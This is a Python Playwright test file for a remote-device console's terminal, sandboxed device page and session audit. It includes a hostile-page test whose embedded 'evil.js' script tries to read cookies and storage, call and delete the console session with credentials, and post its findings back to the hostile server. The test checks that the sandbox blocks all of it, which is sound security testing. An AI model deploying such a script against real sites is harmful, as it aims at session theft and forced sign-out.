"""Work on a real box from afar in Chromium: a terminal, the box's own page, and what a hostile one can do: nothing."""

import json
import sqlite3
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Route, expect

from linli.edge.services.web import Call
from linli.kernel.http import HttpServer
from tests.browser.phone import findings
from tests.browser.real_box import RealBox, real_box, set_up
from tests.browser.sample import installed, until
from tests.browser.visit import Visit, open_browser
from tests.real.platform import Installation

pytestmark = pytest.mark.slow

PASSWORD = "a good password"
TUNNELS = "**/api/console/edge/nodes/*/tunnels"


class Site:
    def __init__(self, visit: Visit, installed: Installation, call: Callable[..., Any], box: RealBox) -> None:
        self.visit, self.installed, self.call, self.box = visit, installed, call, box
        self.page = visit.page

    def go(self, tab: str) -> None:
        self.visit.go(f"/boxes/{self.box.node_id}/{tab}")

    def ask(self, reason: str) -> None:
        """Fill in why, and connect."""
        self.page.get_by_label("Reason", exact=True).fill(reason)
        self.page.get_by_role("button", name="Connect").click()

    def audit(self, reason: str, state: str = "ended") -> dict[str, Any]:
        """The newest visit with this reason, once it has come so far."""

        def come() -> dict[str, Any] | None:
            visits = self.call("GET", f"/edge/nodes/{self.box.node_id}/tunnels")["data"]
            row: dict[str, Any] = next(one for one in visits if one["reason"] == reason)
            return row if row["state"] == state else None

        row = until(come)
        assert row is not None
        return row


@pytest.fixture(scope="module")
def site(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    folder: Path = tmp_path_factory.mktemp("remote")
    with (
        installed(folder / "data") as installation,
        open_browser(browser, installation.url) as visit,
    ):
        call = set_up(visit, installation)
        with real_box(visit, call, folder / "box") as box:
            yield Site(visit, installation, call, box)


@pytest.mark.covers("C062", "H-97")
def test_a_command_is_typed_and_the_session_is_ended_by_hand(site: Site) -> None:
    page = site.page
    site.go("terminal")
    site.ask("looking at door 3")
    expect(page.get_by_text("Connected")).to_be_visible()
    screen = page.locator(".xterm-rows")
    page.locator(".xterm").click()
    page.keyboard.type("echo $((6*7))-of-$(basename $PWD)\n")
    expect(screen).to_contain_text("42-of-box")
    site.visit.picture("remote-terminal")
    page.get_by_role("button", name="End the session").click()
    expect(page.get_by_text("Ended by the person").first).to_be_visible()
    row = site.audit("looking at door 3")
    assert (row["kind"], row["whyEnded"], row["byName"]) == ("shell", "person", "王伟")
    assert row["bytesToBox"] > 20
    assert row["bytesFromBox"] > 20
    site.go("visits")
    expect(page.get_by_role("row", name="looking at door 3")).to_contain_text("Terminal")
    assert findings(site.visit) == []
    assert site.visit.take_faults() == []


def test_a_session_ends_with_its_time(site: Site) -> None:
    page = site.page
    site.go("terminal")

    def shorten(route: Route) -> None:
        """The shortest time that a person may choose is a minute; here it is seconds."""
        answer = route.fetch()
        with sqlite3.connect(site.installed.folder / "linli.db", timeout=60) as db:
            soon = int(time.time() * 1000) + 8000  # the page must have joined by then
            db.execute("UPDATE edge_tunnels SET until_ms = ? WHERE reason = 'until its time'", (soon,))
        db.close()
        route.fulfill(response=answer)

    page.route(TUNNELS, shorten)
    site.ask("until its time")
    expect(page.get_by_text("Its time was over").first).to_be_visible()
    page.unroute(TUNNELS)
    row = site.audit("until its time")
    assert row["whyEnded"] == "time"
    assert row["openedMs"], "it never began"
    assert site.visit.take_faults() == []


def test_the_box_s_own_page_in_a_tab_of_its_own(site: Site) -> None:
    page = site.page
    site.go("")
    page.get_by_role("button", name="Open the box’s page").click()
    page.get_by_label("Reason", exact=True).fill("looking at its network")
    site.visit.picture("remote-own-page-form")
    with page.context.expect_page() as opened:
        page.get_by_role("button", name="Connect").click()
    own = opened.value
    errors: list[str] = []
    own.on("pageerror", lambda error: errors.append(str(error)))
    own.fill("[name=word]", site.box.code)
    own.fill("[name=new]", PASSWORD)
    own.click("button.first")
    own.wait_for_selector(".hero")
    assert "wangyuefu-01" in own.inner_text(".top")
    for section in (
        "devices",
        "logs",
        "diagnosis",
        "network",
        "interconnect",
        "files",
        "keeping",
        "activation",
        "status",
    ):
        own.click(f".nav a[href='#/{section}']")
        own.wait_for_selector(f".nav a[href='#/{section}'][aria-current]")
        own.wait_for_selector("h1")
    own.click(".top button >> nth=0")  # the other language, though nothing can be kept
    own.click(".top button >> nth=1")
    assert own.evaluate("self.origin") == "null"
    site.visit.picture("remote-own-page", of=own)
    page.bring_to_front()
    expect(page.get_by_text("open in another tab")).to_be_visible()
    site.visit.picture("remote-own-page-running")
    page.get_by_role("button", name="End the session").click()
    expect(page.get_by_text("Ended by an administrator")).to_be_visible()
    assert site.audit("looking at its network")["kind"] == "http"
    own.reload()
    expect(own.locator("body")).to_contain_text("over")
    own.close()
    assert errors == []


HOSTILE = """<!doctype html><title>waiting</title><body><script src="evil.js"></script>"""
EVIL = """
const tried = { origin: self.origin, opener: String(window.opener) }
const fail = (error) => error.name
const api = location.origin === 'null' ? '' : new URL('/api/console/session', location.href).href
for (const [name, look] of Object.entries({
  cookie: () => document.cookie, storage: () => localStorage.length, worker: () => navigator.serviceWorker.controller,
})) { try { tried[name] = String(look()) } catch (error) { tried[name] = fail(error) } }
const at = new URL(location.href)
const asked = (path, more) => fetch(at.protocol + '//' + at.host + path, { credentials: 'include', ...more })
  .then((answer) => answer.status, fail)
const shown = (src) => new Promise((done) => {
  const image = new Image()
  image.onload = () => done('shown')
  image.onerror = () => done('blocked')
  image.src = at.protocol + '//' + at.host + src
})
Promise.all([
  asked('/api/console/session'),
  asked('/api/console/session', { method: 'DELETE', headers: { 'x-linli-request': '1' } }),
  asked('/mark.svg', { mode: 'no-cors' }),
  shown('/mark.svg'),
  asked(at.pathname + 'own', { credentials: 'omit' }),
]).then(async ([read, signOut, pages, image, own]) => {
  await fetch('report', { method: 'POST', body: JSON.stringify({ ...tried, read, signOut, pages, image, own }) })
  document.title = 'done'
})
"""


def test_a_hostile_box_can_do_nothing_in_the_console(site: Site) -> None:
    told: list[dict[str, Any]] = []

    async def serve(call: Call) -> None:
        body = b"".join([part async for part in call.body()])
        if call.path == "/report":
            told.append(json.loads(body))
        script = call.path == "/evil.js"
        await call.answer(
            200, (EVIL if script else HOSTILE).encode(), "text/javascript" if script else "text/html",
            [(b"Set-Cookie", b"linli_session=mine; Path=/"), (b"Content-Security-Policy", b"default-src *")],
        )  # fmt: skip

    server = HttpServer(Call.app(serve))
    site.box.do(server.start())
    before = site.box.box.agent._page_port
    site.box.show(lambda: server.port)
    try:
        site.go("page")
        site.page.get_by_label("Reason", exact=True).fill("a hostile box")
        with site.page.context.expect_page() as opened:
            site.page.get_by_role("button", name="Connect").click()
        expect(opened.value).to_have_title("done")
        opened.value.close()
    finally:
        site.box.show(lambda: before("http"))
        site.box.do(server.stop(grace_seconds=0))
    found = told[0]
    assert (found["origin"], found["opener"], found["own"]) == ("null", "null", 200)
    assert (found["cookie"], found["storage"], found["worker"]) == ("SecurityError",) * 3
    assert (found["read"], found["signOut"], found["pages"]) == ("TypeError",) * 3
    assert found["image"] == "blocked"
    assert site.call("GET", "/session")["accountId"]  # nobody signed us out, and the cookie is ours
    site.page.get_by_role("button", name="End the session").click()
    assert site.audit("a hostile box")["whyEnded"] == "ended"
